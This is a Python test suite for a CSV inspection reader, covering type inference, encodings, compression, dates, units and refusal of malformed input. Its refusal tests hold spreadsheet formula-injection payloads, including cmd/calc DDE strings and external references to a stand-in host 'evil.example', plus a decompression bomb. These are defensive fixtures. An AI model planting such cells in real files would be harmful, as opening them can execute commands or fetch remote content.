from __future__ import annotations

import codecs
import gzip
import random
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from exchange.errors import BadField, Unreadable
from exchange.inspection import Intake, Limits, inspect
from exchange.inspection.conformance import ReaderContract
from exchange.inspection.delimited import DelimitedReader
from exchange.inspection.structure import examine
from exchange.profile import ColumnType, TimeCoverage, without_values
from exchange.records import to_record
from ledger.canonical import encode
from tests.exchange.inspection.conftest import READERS, Inspected


class TestDelimitedReader(ReaderContract):
    reader = DelimitedReader()
    suffix = ".csv"
    document = b"time,depth\n2026-01-05T00:00:00Z,1.5\n2026-01-05T01:00:00Z,2.5\n"
    rows, columns = 2, 2


def test_types_are_decided_over_every_row(inspected: Inspected) -> None:
    rows = [f"{i},{i / 4},true,2026-01-05T00:00:00Z" for i in range(5000)]
    rows[4321] = "4321,deep,true,2026-01-05T00:00:00Z"
    profile = inspected("n,x,ok,t\n" + "\n".join(rows) + "\n")
    assert [column.type for column in profile.columns] == [
        ColumnType.INTEGER,
        ColumnType.TEXT,
        ColumnType.BOOLEAN,
        ColumnType.TIMESTAMP,
    ]


@pytest.mark.parametrize(
    ("cells", "type_"),
    [
        (["1", "-2", "+3"], ColumnType.INTEGER),
        (["1", "2.5"], ColumnType.DECIMAL),
        (["1e5", ".5", "-1.5E-3", "5."], ColumnType.DECIMAL),
        (["007", "013"], ColumnType.TEXT),
        (["0x1F", "0x20"], ColumnType.TEXT),
        (["1_000"], ColumnType.TEXT),
        (["12345678901234567890"], ColumnType.TEXT),
        (["2026-01-05", "2026-01-06"], ColumnType.TIMESTAMP),
        (["2026/1/5 03:00"], ColumnType.TIMESTAMP),
        (["2026-13-05"], ColumnType.TEXT),
        (["20260105"], ColumnType.INTEGER),
        (["NaN", "NA", "null"], ColumnType.TEXT),
        (["inf"], ColumnType.TEXT),
    ],
)
def test_a_column_has_the_narrowest_type_that_loses_nothing(
    inspected: Inspected, cells: list[str], type_: ColumnType
) -> None:
    profile = inspected("x,y\n" + "".join(f"{cell},1\n" for cell in cells))
    assert profile.columns[0].type is type_


def test_the_offset_of_a_time_is_counted(inspected: Inspected) -> None:
    profile = inspected("t,x\n2026-01-05T08:00:00+08:00,1\n2026-01-05T09:00:00+0800,2\n")
    assert profile.time is not None
    assert (profile.time.start, profile.time.end) == (
        "2026-01-05T00:00:00Z",
        "2026-01-05T01:00:00Z",
    )


def test_missing_tokens_are_missing_in_numbers_and_words_in_text(inspected: Inspected) -> None:
    profile = inspected("x,country\n1,NA\nNaN,CN\nnan,\nNA,DE\nnull,NA\n,FR\n")
    assert [column.missing for column in profile.columns] == [5, 1]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiters_are_found_in_the_header(inspected: Inspected, delimiter: str) -> None:
    profile = inspected(f"a{delimiter}b\n1{delimiter}2\n")
    assert [column.name for column in profile.columns] == ["a", "b"]


def test_quoted_cells_may_hold_lines_delimiters_and_quotes(inspected: Inspected) -> None:
    profile = inspected('id,note\r\n1,"first, line\r\nsecond ""line"""\r\n2,plain\r\n')
    assert (profile.rows, profile.columns[1].distinct) == (2, 2)


@pytest.mark.parametrize(
    ("codec", "named"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("gb18030", "gb18030"), ("utf-16", "utf-16")],
)
def test_one_table_in_any_encoding_is_one_table(
    inspected: Inspected, codec: str, named: str
) -> None:
    text = "站点,温度\n小麦岛,5.1\n朝连岛,5.3\n千里岩,5.6\n"
    profile = inspected(text.encode(codec))
    assert profile.encoding == named
    assert profile.rows_digest == inspected(text).rows_digest
    assert profile.columns[0].name == "站点"


@pytest.mark.parametrize("text", ["站点,温度\n小麦岛,5.1\n千里岩,5.6\n", "a,b\n1,2\n"])
@pytest.mark.parametrize("wrapped", [False, True])
def test_a_mark_of_gb18030_at_the_start_is_taken_off(
    inspected: Inspected, text: str, *, wrapped: bool
) -> None:
    marked = b"\x84\x31\x95\x33" + text.encode("gb18030")
    given = (gzip.compress(marked, mtime=0), "a.csv.gz") if wrapped else (marked, "a.csv")
    profile = inspected(*given)
    assert profile.encoding == "gb18030"
    assert profile.rows_digest == inspected(text).rows_digest
    assert profile.columns[0].name == text.partition(",")[0]


def test_gzip_is_taken_off(inspected: Inspected) -> None:
    plain = b"a,b\n1,2\n3,4\n"
    profile = inspected(gzip.compress(plain, mtime=0), "data.csv.gz")
    assert profile.compression == "gzip"
    assert profile.rows_digest == inspected(plain).rows_digest


def test_a_unit_in_the_header_is_a_unit(inspected: Inspected) -> None:
    profile = inspected("temperature (degC),盐度（PSU）\n5.1,31.2\n")
    assert [column.unit for column in profile.columns] == ["degC", "PSU"]


FAULTS = {
    "ragged": ("a,b\n1,2\n3\n", "F-06", "line 3: 1 cells where the header has 2"),
    "ragged behind a long cell": ('a,b\n"x\ny",2\n3,4,5\n', "F-06", "line 4: 3 cells"),
    "unclosed quote": ('a,b\n1,"2\n3,4\n', "F-06", "line 2: a quote is never closed"),
    "quote in a cell": ('a,b\n1,2"2\n', "F-06", "line 2: a quote inside an unquoted cell"),
    "text behind a quote": ('a,b\n1,"2"2\n', "F-06", "line 2: text after a closing quote"),
    "NUL": ("a,b\n1,2\n3,\0\n", "F-06", "line 3: a NUL byte"),
    "repeated header": ("a,a\n1,2\n", "F-06", "two columns are called 'a'"),
    "empty header": ("a,,c\n1,2,3\n", "F-06", "column 2 has no name"),
    "header alone": ("a,b\n", "F-06", "not a single row"),
    "empty": ("", "F-06", "is empty"),
    "blank": ("\n\n", "F-06", "header is blank"),
    "blank line": ("a,b\n1,2\n\n3,4\n", "F-06", "line 3: a blank line between rows"),
    "lone return": ("a,b\n1,2\r3,4\n", "F-06", "line 2: a carriage return"),
    "two line ends": ("a,b\n1,2\r\n3,4\n", "F-06", "line 2: lines end in LF and in CR LF"),
    "old Macintosh": ("a,b\r1,2\r", "F-06", "carriage return"),
    "large cell": ("a,b\n1," + "x" * (2 << 20) + "\n", "F-06", "line 2: a cell of more than"),
    "large quoted cell": ('a,b\n1,"' + "x\n" * (1 << 20), "F-06", "or a quote is never closed"),
    "many columns": (",".join(f"c{i}" for i in range(3000)) + "\n", "F-06", "more than 2000"),
    "Latin-1": ("a,b\nQualité,1\nForêt,2\n".encode("latin-1"), "F-05", "byte 10"),
    "undecodable": (b"a,b\n1,2\n\xff\xff,3\n", "F-05", "byte 8"),
    "mixed": (
        "a,b\n青岛海洋,1\n".encode() + "日照海洋,2\n".encode("gb18030"),
        "F-05",
        "line 2 is UTF-8 and line 3 is not",
    ),
    "half a UTF-16 pair": (codecs.BOM_UTF16_LE + b"a\0,\0b\0\n\0\x00\xd8", "F-05", "utf-16"),
    "formula": ("a,b\n1,x\n2,=cmd|' /C calc'!A0\n", "F-04", "line 3: column b"),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_faults_are_refused_naming_place_and_rule(inspected: Inspected, fault: str) -> None:
    content, rule, message = FAULTS[fault]
    with pytest.raises(Unreadable) as refused:
        inspected(content)
    assert refused.value.rules == (rule,)
    assert message in str(refused.value)
    assert "data.csv" in str(refused.value)


def test_blank_lines_at_the_end_are_no_rows(inspected: Inspected) -> None:
    assert inspected("a,b\n1,2\n\n\n").rows == 1
    assert inspected("a,b\r\n1,2\r\n\r\n").rows == 1
    assert inspected("a,b\r\n1,2\r\n3,4").rows == 2


def test_a_blank_line_in_a_single_column_is_a_missing_cell(inspected: Inspected) -> None:
    profile = inspected("a\n1\n\n3\n")
    assert (profile.rows, profile.columns[0].missing) == (3, 1)


def test_a_decompression_bomb_is_refused_before_it_expands(inspected: Inspected) -> None:
    with pytest.raises(Unreadable, match="100 times its size") as refused:
        inspected(gzip.compress(b"a,b\n" + b"1,2\n" * (8 << 20)), "bomb.csv.gz")
    assert refused.value.rules == ("F-02",)


def test_expansion_is_limited_absolutely(tmp_path: Path) -> None:
    path = tmp_path / "data.csv.gz"
    noise = random.Random(1)  # noqa: S311 - repeatable noise
    rows = "".join(f"{noise.random()},{noise.random()}\n" for _ in range(2000))
    path.write_bytes(gzip.compress(b"a,b\n" + rows.encode()))
    with pytest.raises(Unreadable, match="more than 1000 bytes") as refused:
        inspect(path, readers=READERS, limits=Limits(expanded=1000))
    assert refused.value.rules == ("F-02",)


def test_a_broken_gzip_wrapper_is_named(inspected: Inspected) -> None:
    with pytest.raises(Unreadable, match="gzip wrapper is broken"):
        inspected(gzip.compress(b"a,b\n1,2\n", mtime=0)[:-6], "data.csv.gz")


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "=1+1",
            '=HYPERLINK("x")',
            "@SUM(A1)",
            "+1+cmd",
            "-2+3+cmd|' /C calc'!A0",
            "\t=A1",
            " =A1",
        ),
        *("=.5+cmd", "={1}"),
        # Other sheets, and files that a spreadsheet fetches from another machine.
        *(rf"{sign}'\\evil.example\s\[x.xlsx]S'!A1" for sign in "+-@＋－＠"),
        *(r"+'C:\x.xls'!A1", "+Sheet2!A1", "+表!A1", "-[1]S!A1", "@S!A:A", "+S1:S3!B2"),
        *("+A1*2", "-A1*2", "+A1+B1", "+A1&B1", "+$A$1>2", "-(A1*2)", "+A1%*2", "@A1", "@A1:B2"),
        *("-@SUM(1)", '--IMAGE("x")', '+(IMAGE("x"))', '+A1&IMAGE("x")', '-1-IMAGE("x")'),
        *('+"a"&B1', '+"a"&IMAGE("x")'),
    ],
)
def test_active_cells_are_refused(inspected: Inspected, cell: str) -> None:
    quoted = cell.replace('"', '""')
    with pytest.raises(Unreadable, match="line 3: column note: a cell is a formula") as refused:
        inspected(f'id,note\n1,fine\n2,"{quoted}"\n')
    assert refused.value.rules == ("F-04",)


@pytest.mark.parametrize(
    "cell",
    [
        *("-", "-abc", "+86 532 8888 0000", "@someone", "- item (x)", "-5-A", "a=b", "== 注 =="),
        *("-A1", "-1-B12", "- CO2/CH4 ratio", "- A4/A5 paper", "-NO3-N", "-PM2.5", "-水温(℃)"),
        *("- 注意!小心", "- [x] Done!", "-'t Hooft 'x'", '-"quoted" text', "@someone see A1"),
        *(
            "+86-532-8888-0000",
            "+1 (555) 010-1234",
            "+08:00",
            "-10~5℃",
            "-3-2-1",
            "+5%",
            "...",
            "+/-",
        ),
    ],
)
def test_plain_text_is_no_formula(inspected: Inspected, cell: str) -> None:
    quoted = cell.replace('"', '""')
    assert inspected(f'id,note\n1,fine\n2,"{quoted}"\n').rows == 2


def test_a_fill_value_that_nobody_declared_is_assumed_and_said(inspected: Inspected) -> None:
    rows = [f"{i},{'-9999' if i % 9 == 0 else 5 + i % 7 / 10}" for i in range(200)]
    profile = inspected("n,temperature\n" + "\n".join(rows) + "\n")
    column = profile.columns[1]
    assert (column.fill_value, column.missing, column.minimum) == ("-9999", 23, "5")
    assert profile.remarks == (
        "column temperature: -9999 stands apart and repeats; its 23 cells are read as missing",
    )


def test_a_supplier_may_say_that_what_stands_apart_is_a_value(inspected: Inspected) -> None:
    rows = [f"{'-9999' if i % 9 == 0 else 5},{'-999' if i % 2 else 5}" for i in range(200)]
    text = "depth,temperature\n" + "\n".join(rows) + "\n"
    depth, temperature = inspected(text, no_fill_value=("depth",)).columns
    assert (depth.fill_value, depth.missing, depth.minimum) == (None, 0, "-9999")
    assert (temperature.fill_value, temperature.missing) == ("-999", 100)
    assert inspected(text, no_fill_value=("depth",)).remarks == (
        (
            "column depth: -9999 stands apart and repeats; the supplier declares that its 23 cells"
            " are values"
        ),
        "column temperature: -999 stands apart and repeats; its 100 cells are read as missing",
    )
    named = inspected(text, no_fill_value=("temperature", "depth", "depth"))
    assert named.no_fill_value == ("depth", "temperature")
    with pytest.raises(BadField, match=r"no_fill_value: data\.csv has no column height"):
        inspected(text, no_fill_value=("height",))


def test_what_stands_apart_is_no_value_to_be_quoted_before_the_listing(
    inspected: Inspected,
) -> None:
    rows = [f"{'-9999' if i % 9 == 0 else 5},{'-99.9' if i % 2 else 5}" for i in range(200)]
    text = "depth: of 3,temperature\n" + "\n".join(rows) + "\n"
    shown = without_values(inspected(text, no_fill_value=("depth: of 3",)))
    assert "99" not in str(to_record(replace(shown, data="", rows_digest="")))
    assert shown.remarks == (
        (
            "column depth: of 3: a value stands apart and repeats; the supplier declares that its"
            " 23 cells are values"
        ),
        "column temperature: a value stands apart and repeats; its 100 cells are read as missing",
    )


def test_a_name_that_is_withheld_is_none_to_be_declared(inspected: Inspected) -> None:
    text = "13812345678,x\n1,2\n3,4\n"
    withheld = inspected(text).columns[0].name
    for name in ("13812345678", withheld):
        with pytest.raises(BadField, match="no_fill_value"):
            inspected(text, no_fill_value=(name,))


def test_a_count_up_to_999_holds_no_fill_value(inspected: Inspected) -> None:
    rows = [str(i) for i in range(1000)] + ["999"]
    assert inspected("n\n" + "\n".join(rows) + "\n").columns[0].fill_value is None


def test_numbers_are_measured(inspected: Inspected) -> None:
    profile = inspected("x,y\n" + "".join(f"{i},1\n" for i in range(1, 101)))
    column = profile.columns[0]
    assert (column.minimum, column.maximum, column.mean) == ("1", "100", "50.5")
    assert column.deviation == "28.8660700477"
    assert column.quartiles == ("25.75", "50.5", "75.25")
    assert column.histogram == (10,) * 10
    constant = profile.columns[1]
    assert (constant.deviation, constant.histogram) == ("0", (100, *[0] * 9))


def test_huge_and_tiny_numbers_stay_plain(inspected: Inspected) -> None:
    column = inspected("x,y\n1.5e-7,1\n1.5e7,1\n-1.5e7,1\n").columns[0]
    assert (column.minimum, column.maximum) == ("-15000000", "15000000")
    assert column.mean is not None
    assert "e" not in column.mean.lower()


def test_shuffled_rows_have_one_digest_and_one_set_of_numbers(inspected: Inspected) -> None:
    noise = random.Random(20260105)  # noqa: S311 - repeatable noise
    rows = [f"{noise.gauss(10, 3)},{noise.choice('abc')},{i}" for i in range(4000)]
    first = inspected("x,s,n\n" + "\n".join(rows) + "\n")
    noise.shuffle(rows)
    second = inspected("x,s,n\n" + "\n".join(rows) + "\n")
    assert first.data != second.data
    assert first.rows_digest == second.rows_digest
    assert first.columns == second.columns


def test_another_row_is_another_digest(inspected: Inspected) -> None:
    one = inspected("a,b\nx,yz\n").rows_digest
    assert one != inspected("a,b\nxy,z\n").rows_digest
    assert one != inspected("a,b\nx,yz\nx,yz\n").rows_digest


def test_duplicate_rows_are_counted(inspected: Inspected) -> None:
    assert inspected("a,b\n1,2\n1,2\n1,2\n3,4\n").duplicate_rows == 2


def test_two_runs_give_one_record(inspected: Inspected) -> None:
    text = "t,x\n" + "".join(f"2026-01-05T{i % 24:02}:00:00Z,{i / 7}\n" for i in range(3000))
    assert encode(to_record(inspected(text))) == encode(to_record(inspected(text)))


def test_gaps_are_distances_of_more_than_two_steps(inspected: Inspected) -> None:
    hours = [0, 1, 2, 3, 5, 6, 9, 10]
    profile = inspected("time,x\n" + "".join(f"2026-01-05T{h:02}:00:00Z,1\n" for h in hours))
    assert profile.time is not None
    assert (profile.time.step_seconds, profile.time.gaps) == (3600, 1)


def test_position_is_found_by_name_and_must_be_degrees(inspected: Inspected) -> None:
    profile = inspected("经度,纬度\n120.5,36.1\n121.0,36.3\n")
    assert profile.space is not None
    assert (profile.space.west, profile.space.north) == ("120.5", "36.3")
    assert inspected("lon,lat\n5000,4000\n").space is None
    assert inspected("lon,lat,x\n,,1\n,,2\n").space is None


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12),
            st.decimals(-(10**6), 10**6, places=3),
        ),
        min_size=1,
        max_size=30,
    )
)
def test_any_well_formed_table_is_read_whole(
    inspected: Inspected, rows: list[tuple[str, Decimal]]
) -> None:
    lines = [f'"x{text.replace(chr(34), chr(34) * 2)}",{number}' for text, number in rows]
    profile = inspected("text,number\n" + "\n".join(lines) + "\n")
    assert profile.rows == len(rows)
    assert profile.columns[0].distinct == len({text for text, _ in rows})
    assert Decimal(profile.columns[1].minimum or "nan") == min(number for _, number in rows)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused_by_a_rule(inspected: Inspected, noise: bytes) -> None:
    rules: tuple[str, ...] = ("read",)
    try:
        inspected(b"a,b\n" + noise)
    except Unreadable as error:
        rules = error.rules
    assert rules


def test_the_piece_boundary_changes_nothing(
    monkeypatch: pytest.MonkeyPatch, inspected: Inspected
) -> None:
    text = 'id,note\r\n1,"a ""quoted""\r\ncell"\r\n2,岛\r\n3,""\r\n'
    whole = inspected(text)
    for size in range(1, 9):
        monkeypatch.setattr("exchange.inspection.intake.PIECE", size)
        assert inspected(text).columns == whole.columns
    for fault in ("ragged behind a long cell", "unclosed quote", "quote in a cell", "lone return"):
        content, _, message = FAULTS[fault]
        for size in range(1, 9):
            monkeypatch.setattr("exchange.inspection.intake.PIECE", size)
            with pytest.raises(Unreadable) as refused:
                inspected(content)
            assert message in str(refused.value)


def test_progress_ends_at_the_whole(tmp_path: Path) -> None:
    path = tmp_path / "data.csv"
    path.write_text("a,b\n1,2\n")
    told: list[tuple[int, int]] = []
    inspect(path, readers=READERS, progress=lambda done, total: told.append((done, total)))
    assert told[-1] == (16, 16)
    assert all(0 <= done <= total for done, total in told)


def test_nothing_is_left_in_scratch(tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    path = tmp_path / "data.csv"
    path.write_bytes(b"a,b\n1,2\n")
    inspect(path, readers=READERS, scratch=scratch)
    assert list(scratch.iterdir()) == []


def test_a_record_of_megabytes_is_read_among_short_ones(inspected: Inspected) -> None:
    long = ",".join(["x" * 1_000_000] * 7)
    text = f"{','.join('abcdefg')}\n1,2,3,4,5,6,7\n{long}\n" + "1,2,3,4,5,6,7\n" * 1000
    assert inspected(text).rows == 1002


def test_the_longest_record_is_found_wherever_pieces_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "data.csv"
    path.write_bytes(b'a,b\r\n1,"2\r\n33333"\r\n4,5')
    for size in (1, 2, 5, 100):
        monkeypatch.setattr("exchange.inspection.intake.PIECE", size)
        intake = Intake(path, scratch=tmp_path)
        assert examine(intake.pieces(), intake).longest == 14


def test_files_joined_to_one_are_told_by_their_headers(inspected: Inspected) -> None:
    half = "time,station,level\n2026-01-05,QD,2.5\n2026-01-06,RZ,3.5\n"
    profile = inspected(half * 3)
    assert profile.remarks == ("rows that repeat the header: 2; files joined to one?",)
    assert not inspected("name,kind\nname,kinds\n").remarks  # a row of words of its own


def test_numbers_with_a_decimal_comma_are_numbers(inspected: Inspected) -> None:
    profile = inspected("ort;lat;temp;text\nQD;36,0625;-2,50;1,5,2\nRZ;35;11;7\n")
    by_name = {column.name: column for column in profile.columns}
    assert by_name["lat"].type is by_name["temp"].type is ColumnType.DECIMAL
    assert (by_name["lat"].minimum, by_name["temp"].minimum) == ("35", "-2.5")
    assert by_name["ort"].type is by_name["text"].type is ColumnType.TEXT
    assert profile.remarks == ("columns read with a decimal comma: 2, lat first",)


@pytest.mark.parametrize(
    "text",
    [
        "a;b\n1,234;x\n12,345;y\n",  # thousands, or decimals
        "a;b\n1,5;x\n1.5;y\n",  # of two ways
        "a;b\n1.234,5;x\n2,5;y\n",  # grouped
        "a;b\n01,5;x\n2,5;y\n",  # a name of something
        'a,b\n"1,5",x\n"2,5",y\n',  # where a comma parts the cells, answers to a question
    ],
)
def test_what_a_comma_means_is_not_guessed(inspected: Inspected, text: str) -> None:
    profile = inspected(text)
    assert profile.columns[0].type is ColumnType.TEXT
    assert profile.remarks == ()


def test_a_file_that_tells_its_comma_once_is_read_so_throughout(inspected: Inspected) -> None:
    profile = inspected("a;b\n1,234;0,5\n12,345;2\n")
    assert [column.minimum for column in profile.columns] == ["1.234", "0.5"]


@settings(max_examples=40)
@given(st.lists(st.decimals(-(10**6), 10**6, places=2), min_size=1, max_size=20))
@example([Decimal("1234.50"), Decimal("-0.01")])
def test_a_comma_or_a_point_makes_the_same_rows(
    inspected: Inspected, values: list[Decimal]
) -> None:
    point = "a;b\n" + "".join(f"{value};x\n" for value in values)
    comma = point.replace(".", ",")
    assert inspected(comma).rows_digest == inspected(point).rows_digest


@pytest.mark.parametrize(
    ("first", "second", "header"),
    [
        ("20260105", "20260106", "date"),
        ("2026010500", "2026010600", "时间"),
        ("202601050000", "202601060000", "Time"),
        ("20260105000000", "20260106000000", "time"),
        ("2026年1月5日", "2026年1月6日", "日期"),
        ("05.01.2026", "06.01.2026", "Datum"),
        ("05.01.2026 00:00", "06.01.2026 00:00", "Datum"),
        ("5 Jan 2026", "6 Jan 2026", "day"),
        ("05-Jan-2026", "06-Jan-2026", "date"),
    ],
)
def test_time_is_covered_however_its_dates_are_written(
    inspected: Inspected, first: str, second: str, header: str
) -> None:
    found = inspected(f"{header},v\n{second},1\n{first},2\n").time
    assert found == TimeCoverage(header, "2026-01-05T00:00:00Z", "2026-01-06T00:00:00Z", 86400, 0)


@pytest.mark.parametrize(
    ("first", "second", "header"),
    [
        ("202601", "202603", "month"),
        ("2026年1月", "2026年3月", "月份"),
        ("2026-01", "2026-03", "date"),
    ],
)
def test_months_cover_time_by_their_first_days(
    inspected: Inspected, first: str, second: str, header: str
) -> None:
    found = inspected(f"{header},v\n{second},1\n{first},2\n").time
    assert found is not None
    assert (found.start, found.end) == ("2026-01-01T00:00:00Z", "2026-03-01T00:00:00Z")


def test_a_day_and_a_month_are_told_apart_by_one_that_can_be_but_one(inspected: Inspected) -> None:
    found = inspected("date,v\n01/02/2026,1\n02/13/2026,2\n").time
    assert found is not None
    assert (found.start, found.end) == ("2026-01-02T00:00:00Z", "2026-02-13T00:00:00Z")


@pytest.mark.parametrize(
    "text",
    [
        "date,v\n01/02/2026,1\n02/03/2026,2\n",  # days or months first
        "date,v\n20260105,1\n20261305,2\n",  # one is no date
        "birthday,v\n20260105,1\n20260106,2\n",  # which covers nothing
        "date,v\n30000105,1\n30000106,2\n",  # numbers of something else
    ],
)
def test_what_is_no_date_for_certain_covers_no_time(inspected: Inspected, text: str) -> None:
    assert inspected(text).time is None


def test_instants_go_before_dates_that_are_written_otherwise(inspected: Inspected) -> None:
    found = inspected("date,sent\n20250105,2026-01-05\n20250106,2026-01-06\n").time
    assert found is not None
    assert found.column == "sent"


def test_a_row_of_units_is_none_of_the_data(inspected: Inspected) -> None:
    """As ERDDAP writes its `.csv`: units in the second line, nothing for texts."""
    rows = "2026-01-05T00:00:00Z,36.06,QD,5.2\n2026-01-05T01:00:00Z,36.07,QD,NaN\n"
    named = inspected("time,lat,station,sst\nUTC,degrees_north,,degree_C\n" + rows)
    plain = inspected("time,lat,station,sst\n" + rows)
    assert (named.rows, named.rows_digest) == (2, plain.rows_digest)
    units = [column.unit for column in named.columns]
    assert units == ["UTC", "degrees_north", None, "degree_C"]
    assert (named.time, named.space) == (plain.time, plain.space)
    assert named.remarks == ("the row below the header names units and is none of the data's",)


@pytest.mark.parametrize("rows", [2, 1_500])
def test_units_are_taken_from_files_of_any_length(inspected: Inspected, rows: int) -> None:
    found = inspected("a;b\n[m];(m s-1)\n" + "1,5;2\n" * rows)
    assert found.rows == rows
    assert [column.unit for column in found.columns] == ["m", "m s-1"]
    assert [column.type for column in found.columns] == [ColumnType.DECIMAL, ColumnType.INTEGER]


@pytest.mark.parametrize(
    "text",
    [
        "a,b\nm,s\n",  # alone
        "a,b\nm,s\nx,y\n",  # above words
        "sex,age\nm,5\nf,6\n",  # a value of its own
        "a,b\nm,Qingdao\n1,2\n",  # a word that is no unit
        "a,b\n-,-\n1,2\n",  # nothing was measured
        "a,b\nm,\n,2\n",  # a value is missing below
        f"a,b\nm,{'x' * 2_000}\n1,y\n",  # a cell that is not looked at at first
    ],
)
def test_a_row_that_may_be_of_the_data_is(inspected: Inspected, text: str) -> None:
    found = inspected(text)
    assert found.rows == text.count("\n") - 1
    assert found.remarks == ()


def test_lines_are_told_rightly_below_a_row_of_units(inspected: Inspected) -> None:
    with pytest.raises(Unreadable, match="line 4: column b"):
        inspected("a,b\nm,\n1,x\n2,=1+1\n")


@pytest.mark.parametrize("times", [1, 500])
def test_instants_without_a_zone_among_others_are_told(inspected: Inspected, times: int) -> None:
    rows = "2026-01-05 08:00:00\n2026-01-05T08:00Z\n2026-01-05 08:00:00.5+0800\n2026-01-05\nNA\n"
    found = inspected("sent\n" + rows * times)
    told = f"column sent: {2 * times} instants name no zone as others do, read as UTC"
    assert found.remarks == (told,)


@pytest.mark.parametrize("times", [1, 1_500])
@pytest.mark.parametrize(
    "rows", ["2026-01-05 08:00:00\n2026-01-05\n", "2026-01-05T08:00Z\n2026-01-05 08:00:00+08:00\n"]
)
def test_instants_of_one_way_are_told_nothing_of(
    inspected: Inspected, rows: str, times: int
) -> None:
    assert inspected("sent\n" + rows * times).remarks == ()
